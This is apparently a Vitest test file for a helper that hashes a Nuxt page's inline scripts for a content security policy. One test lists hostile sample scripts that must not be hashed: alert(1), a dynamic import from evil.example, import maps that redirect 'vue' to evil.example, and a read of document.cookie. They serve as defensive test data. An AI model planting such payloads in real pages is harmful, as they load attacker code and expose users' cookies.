import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { inlineScriptHashes, scriptHash } from './inline-scripts';

const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;

const config = 'window.__NUXT__={};window.__NUXT__.config={public:{cmsUrl:"https://cms.example"},app:{baseURL:"/"}}';
const importMap = '{"imports":{"#entry":"/_nuxt/Bx1.js"}}';

describe('the hashes of a page\'s inline scripts', () => {
  it('hashes Nuxt\'s runtime config and import map, byte for byte', () => {
    const html = `<html><head><script type="importmap">${importMap}</script></head><body><div id="__nuxt"></div><script>${config}</script></body></html>`;
    expect(inlineScriptHashes(html)).toEqual([sha256(importMap), sha256(config)]);
    expect(scriptHash('é')).toBe(sha256('é'));
  });

  it('leaves out external scripts and data blocks, which need no hash', () => {
    const html = [
      '<script type="module" src="/_nuxt/entry.js" crossorigin></script>',
      '<script src=/_enhance/enhance.abc.js type=module></script>',
      '<script type="application/json" data-nuxt-data="nuxt-app" id="__NUXT_DATA__">[{"state":1}]</script>',
      '<script type="application/ld+json">{"@context":"https://schema.org"}</script>',
    ].join('');
    expect(inlineScriptHashes(html)).toEqual([]);
  });

  it('hashes no other inline script: the browser refuses them', () => {
    const html = [
      '<script>alert(1)</script>',
      '<script type="module">import("https://evil.example/x.js")</script>',
      '<script type="importmap">{"imports":{"vue":"https://evil.example/vue.js"}}</script>',
      '<script type="importmap">{"imports":{"vue":"//evil.example/vue.js"}}</script>',
      '<script type="importmap">not json</script>',
      '<SCRIPT>document.cookie</SCRIPT>',
      `<script type="text/plain">${config}</script>`,
    ].join('');
    expect(inlineScriptHashes(html)).toEqual([]);
  });

  it('lists a script written twice once', () => {
    expect(inlineScriptHashes(`<script>${config}</script><script>${config}</script>`)).toEqual([sha256(config)]);
  });
});
